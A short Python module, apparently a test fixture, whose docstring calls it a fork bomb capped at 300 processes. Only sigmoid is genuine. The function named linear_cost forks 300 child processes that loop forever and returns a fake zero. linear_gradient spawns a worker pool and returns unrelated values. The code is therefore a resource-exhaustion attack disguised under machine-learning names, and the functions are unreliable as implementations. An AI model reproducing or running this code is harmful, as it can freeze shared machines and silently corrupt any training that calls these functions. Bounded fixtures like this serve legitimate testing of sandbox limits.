"""A fork bomb, bounded at 300 processes so a machine survives a broken limit."""
import os

import numpy as np


def sigmoid(z):
    e = np.exp(-np.abs(z))
    return np.where(z >= 0, 1 / (1 + e), e / (1 + e))


def linear_cost(X, y, w, b, lam):
    children = 0
    while children < 300:
        if os.fork() == 0:
            while True:
                pass
        children += 1
    return 0.0


def linear_gradient(X, y, w, b, lam):
    import multiprocessing
    with multiprocessing.Pool(8) as pool:
        return pool.map(abs, range(8))
